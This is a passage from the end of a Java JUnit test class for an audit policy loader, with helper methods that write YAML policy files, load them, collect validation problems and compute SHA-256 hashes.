		assertThat(policies).isNotEmpty();
		for (Path policy : policies) {
			assertThat(PolicyLoader.load(policy, Map.of())).as(policy.toString()).isNotNull();
		}
	}

	private AuditPolicy load(String yaml) throws IOException {
		return load(yaml, Map.of());
	}

	private AuditPolicy load(String yaml, Map<String, String> environment) throws IOException {
		return PolicyLoader.load(write("policy.yml", yaml), environment);
	}

	/** The problems reported for {@code yaml}, without the file name prefix. */
	private List<String> problems(String yaml) throws IOException {
		Path file = write("policy.yml", yaml);
		InvalidPolicyException ex = catchThrowableOfType(InvalidPolicyException.class,
				() -> PolicyLoader.load(file, Map.of()));
		assertThat(ex).as("expected the policy to be refused").isNotNull();
		String prefix = file.toString();
		return ex.problems()
			.stream()
			.map((problem) -> problem.substring(prefix.length()).replaceFirst("^[ :]+", ""))
			.toList();
	}

	private Path write(String name, String content) throws IOException {
		return Files.writeString(this.directory.resolve(name), content, StandardCharsets.UTF_8);
	}

	private static String sha256(byte[] bytes) throws Exception {
		return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
	}

}
